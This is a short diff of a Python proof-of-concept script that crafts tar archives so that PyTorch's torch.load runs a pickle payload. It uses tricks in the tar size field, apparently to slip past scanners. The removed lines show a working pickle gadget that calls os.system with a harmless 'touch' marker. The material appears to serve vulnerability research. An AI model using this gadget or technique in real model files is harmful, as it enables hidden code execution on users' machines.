@@ -8,8 +8,7 @@
 torch.load -> _legacy_load -> tarfile -> tar.extract('storages') -> pickle.load runs it.
 Usage: tar_octal_hidden2.py OUT MARKER [0o|underscore|plus]"""
 import sys, pickle
-def payload(marker):
-    return b"cposix\nsystem\n(S'touch " + marker.encode() + b"'\ntR."
+from tarblocks import payload
 def header(name, size_field, typeflag=b'0'):
     h = bytearray(512)
     h[0:len(name)] = name
